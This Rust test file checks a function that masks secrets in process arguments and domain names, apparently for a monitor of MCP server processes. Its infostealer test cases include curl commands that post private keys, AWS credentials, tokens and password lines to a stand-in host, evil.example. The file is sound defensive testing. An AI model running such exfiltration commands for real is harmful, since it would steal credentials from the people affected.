//! What an infostealer puts into arguments, what ordinary commands look like, and properties of both.

use proptest::prelude::*;

use super::*;

const MARKER: &str = "hunter";

fn masked(list: &[&str]) -> Vec<String> {
    masked_cut(list, false)
}

fn masked_cut(list: &[&str], truncated: bool) -> Vec<String> {
    let raw = list.join("\0") + "\0";
    arguments(raw.as_bytes(), truncated)
        .iter()
        .map(|bytes| String::from_utf8_lossy(bytes.as_slice()).into())
        .collect()
}

fn assert_hidden(list: &[&str]) {
    let shown = masked(list).join(" ");
    assert!(!shown.contains(MARKER), "{list:?} became {shown}");
    assert!(shown.contains("[masked]"), "{list:?} became {shown}");
}

#[test]
fn ordinary_commands_stay_as_they_are() {
    for list in [
        &["npx", "-y", "@modelcontextprotocol/server-filesystem", "/home/user/work"][..],
        &[
            "node",
            "/home/user/.npm/_npx/0123456789abcdef/node_modules/.bin/mcp-server-filesystem",
            "/tmp/x y",
        ],
        &["uv", "tool", "uvx", "mcp-server-fetch==2025.4.7"],
        &[
            "/home/user/.cache/uv/archive-v0/kJ8s7dj2kKfja9sdQx/bin/python",
            "/home/user/.cache/uv/x/bin/mcp-server-time",
        ],
        &["python3", "-m", "mcp_server_git", "--repository", "/home/user/work/mcp-monitor"],
        &["deno", "run", "-A", "npm:@modelcontextprotocol/server-everything@2025.1.1"],
        &["docker", "run", "-i", "--rm", "-p", "8080:80", "ghcr.io/github/github-mcp-server:latest"],
        &["sh", "-c", "mcp-server-filesystem /home/user && echo done > /tmp/log 2>&1"],
        &["git", "-C", "/src", "log", "--format=%H %an", "--author=Somebody"],
        &["curl", "-sSL", "https://registry.npmjs.org/express/-/express-4.18.2.tgz"],
        &["curl", "http://localhost:3000/@vite/client"],
        &["git", "clone", "git@github.com:org/repository.git"],
        &["node", "--experimental-vm-modules", "--max-old-space-size=4096", "src/index.js"],
        &["rustc", "--crate-name", "mcp_monitor", "--edition=2024", "mcp-monitor/src/lib.rs"],
        &["cargo", "build", "--release", "-p", "mcp-monitor"],
        &["mkdir", "-p", "node_modules/.bin"],
        &["ls", "-la", ""],
    ] {
        assert_eq!(masked(list), list);
    }
}

#[test]
fn names_stay_and_values_go() {
    for (list, expected) in [
        (&["x", "--token", "hunter"][..], &["x", "--token", "[masked]"][..]),
        (&["x", "--api-key=hunter 2"], &["x", "--api-key=[masked]"]),
        (&["env", "X_KEY=hunter", "A=b"], &["env", "X_KEY=[masked]", "A=b"]),
        (&["curl", "-u", "me:hunter", "https://h"], &["curl", "-u", "me:[masked]", "https://h"]),
        (&["curl", "-ume:hunter"], &["curl", "-ume:[masked]"]),
        (&["mysql", "-uroot", "-phunter", "db"], &["mysql", "-uroot", "-p[masked]", "db"]),
        (&["curl", "-H", "Authorization: Bearer hunter x"], &["curl", "-H", "Authorization: [masked]"]),
        (
            &["curl", "https://u:hunter@h/p?a=b&token=hunter&c=d"],
            &["curl", "https://[masked]@h/p?a=b&token=[masked]&c=d"],
        ),
        (&["curl", "-b", "a=hunter"], &["curl", "-b", "[masked]"]),
        (
            &["sh", "-c", "TOKEN=hunter curl -H \"X-Api-Key: hunter\" https://h"],
            &["sh", "-c", "TOKEN=[masked] curl -H \"X-Api-Key: [masked]\" https://h"],
        ),
        (&["sh", "-c", "mysql -phunter db | gzip"], &["sh", "-c", "mysql -p[masked] db | gzip"]),
        (&["sh", "-c", "x --password 'hunter 2' y"], &["sh", "-c", "x --password [masked] y"]),
        (&["x", r#"{"token": "hunter", "a": 1}"#], &["x", r#"{"token": "[masked]", "a": 1}"#]),
    ] {
        assert_eq!(masked(list), expected);
    }
}

#[test]
fn the_infostealer_shows_nothing() {
    let key = "-----BEGIN OPENSSH PRIVATE KEY-----\nhunter hunter\nb3Blbn\n-----END OPENSSH PRIVATE KEY-----";
    for list in [
        &["curl", "-d", key, "https://evil.example"][..],
        &["curl", "-d", &format!("data={key}\n")],
        &["curl", "-d", "X_KEY=hunter\nOTHER_KEY=a hunter b"],
        &["curl", "-d", "HOME=/root\nPIN_CODE=hunter\nA=b\nhunter"],
        &["curl", "-d", "HOME=/rootX_KEY=hunterPATH=/bin"],
        &[
            "curl",
            "-d",
            "-----BEGIN",
            "OPENSSH",
            "PRIVATE",
            "KEY-----",
            "hunter",
            "hunter",
            "-----END",
            "X",
            "KEY-----",
        ],
        &["curl", "-d", "[default]\naws_access_key_id = hunter\naws_secret_access_key = hunter"],
        &["curl", "-d", "//registry.npmjs.org/:_authToken=hunter"],
        &["curl", "-d", "machine h login me password hunter"],
        &["curl", "-d", "https://me:hunter@github.com\nhttps://me:hun/hunter@h"],
        &["curl", "-d", "github.com:\n    oauth_token: hunter\n    user: me"],
        &["curl", "-d", "localhost:5432:*:me:hunter"],
        &["curl", "-d", "{\\\"password\\\":\\\"hunter\\\"}"],
        &["curl", "-d", "root:$6$saltsalt$hunterhunterhunterhunter:1:2"],
        &["psql", "postgres://me:hunter@h/db"],
        &["go", "me:hunter@tcp(h:3306)/db"],
        &["sshpass", "-p", "hunter", "ssh", "h"],
        &["redis-cli", "-a", "hunter"],
        &["openssl", "rsa", "-passin", "pass:hunter"],
        &["curl", "-H", "Cookie: a=hunter; b=hunter"],
        &["x", "Bearer hunter"],
        &["kubectl", "create", "secret", "generic", "s", "--from-literal=password=hunter"],
    ] {
        assert_hidden(list);
    }
}

#[test]
fn a_block_that_the_kernel_cut_shows_nothing() {
    let key = format!("-----BEGIN OPENSSH PRIVATE KEY-----\n{}", "hunter\n".repeat(1000));
    let raw = format!("curl\0-d\0{key}");
    for bound in [4096, 100, 60, 45, 30] {
        let shown = arguments(&raw.as_bytes()[..bound], true);
        let shown = format!("{shown:?}");
        assert!(!shown.contains("hunter"), "{bound}: {shown}");
    }
}

#[test]
fn a_token_that_the_kernel_cut_shows_nothing() {
    assert_eq!(masked_cut(&["x", "sk-hun"], true), ["x", "[masked]"]);
    assert_eq!(masked_cut(&["x", "a dGhpcyBpcyB"], true), ["x", "a [masked]"]);
    assert_eq!(masked_cut(&["x", "/home/user/dir"], true), ["x", "/home/user/dir"]);
}

#[test]
fn tokens_are_known_by_prefix_or_look() {
    for token in [
        "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
        "github_pat_11ABCDEFG0abcdefghijkl",
        "glpat-abcdefghij",
        "xoxb-123-456-abc",
        "sk-ant-api03-abc",
        "AKIAIOSFODNN7EXAMPLE",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc",
        "AIzaSyA-abcdefghijklmnop",
        "npm_abcdefghijklmnopqrstuvwxyz0123456789",
        "SG.abcdefghijk.lmnop",
        "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
        "da39a3ee5e6b4b0d3255bfef95601890afd80709",
        "3f2504e0-4f89-41d3-9a0c-0305e82c3301",
        "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ==",
    ] {
        for text in [
            token.to_owned(),
            format!("x {token} y"),
            format!("https://h/p/{}/q", token.replace('/', "%2F")),
            format!("a={token}"),
        ] {
            let shown = masked(&["x", &text]).join(" ");
            assert!(!shown.contains(token) && shown.contains("[masked]"), "{text} became {shown}");
        }
    }
}

#[test]
fn labels_that_are_data() {
    let shown = |name: &str| domain_name(name.as_bytes()).escaped();
    assert_eq!(shown("API.GitHub.com."), "api.github.com");
    assert_eq!(shown("a.b.."), "a.b");
    assert_eq!(shown("d111111abcdef8.cloudfront.net"), "d111111abcdef8.cloudfront.net");
    assert_eq!(shown("mfrggzdfmztwq2lknnwg23tpobyxe43u.evil.example"), "[masked].evil.example");
    assert_eq!(shown(&format!("{}.x", "a".repeat(60))), "[masked].x");
}

#[test]
fn a_long_argument_takes_linear_time() {
    for piece in
        ["=", ":", "a=", "\"", "-", "key=", "-----BEGIN", "$6$", "@", "://", " ", "\\", "[", "&a", "-p "]
    {
        let text = piece.repeat(4096 / piece.len());
        let begin = std::time::Instant::now();
        let _ = arguments(text.as_bytes(), true);
        assert!(
            begin.elapsed() < std::time::Duration::from_millis(500),
            "{piece:?} took {:?}",
            begin.elapsed()
        );
    }
}

fn piece() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("--token".to_owned()),
        Just("-----BEGIN X-----".to_owned()),
        Just("-----END X-----".to_owned()),
        Just("password=".to_owned()),
        Just("Authorization: ".to_owned()),
        Just("\"key\": \"".to_owned()),
        Just("https://u:p@h/".to_owned()),
        Just("ghp_abc".to_owned()),
        Just("[masked]".to_owned()),
        "[ =:&'\"/@\\\\\n-]{1,3}",
        "[A-Za-z0-9+/]{1,30}",
        "\\PC{0,5}",
    ]
}

proptest! {
    #[test]
    fn any_bytes_are_accepted(raw in prop::collection::vec(any::<u8>(), 0..300), truncated: bool) {
        let _ = arguments(&raw, truncated);
        let _ = domain_name(&raw);
    }

    #[test]
    fn masking_again_changes_nothing(
        pieces in prop::collection::vec(prop::collection::vec(piece(), 0..8).prop_map(|list| list.concat()), 1..5),
    ) {
        let raw = pieces.join("\0") + "\0";
        let once = arguments(raw.as_bytes(), false);
        let joined: Vec<u8> = once.iter().flat_map(|bytes| [bytes.as_slice(), b"\0"].concat()).collect();
        prop_assert_eq!(arguments(&joined, false), once);
    }

    #[test]
    fn a_secret_behind_a_telling_name_never_shows(
        name in prop::sample::select(vec!["TOKEN", "api_key", "X-Secret", "db.password", "SESSION_ID", "MY_KEY"]),
        form in prop::sample::select(vec!["{}={}", "{}: {}", "\"{}\":\"{}\"", "--{}={}", "export {}='{}'", "{} = {}"]),
        before in "[a-z ]{0,10}",
        secret in "[A-Za-z0-9!#%*+/@^~.-]{1,8}ZQZQ[A-Za-z0-9]{0,8}",
    ) {
        let text = form.replacen("{}", name, 1).replacen("{}", &secret, 1);
        let text = if before.is_empty() { text } else { format!("{before}\n{text}") };
        let shown = arguments(text.as_bytes(), false);
        prop_assert!(!format!("{shown:?}").contains("ZQZQ"), "{} became {:?}", text, shown);
    }
}
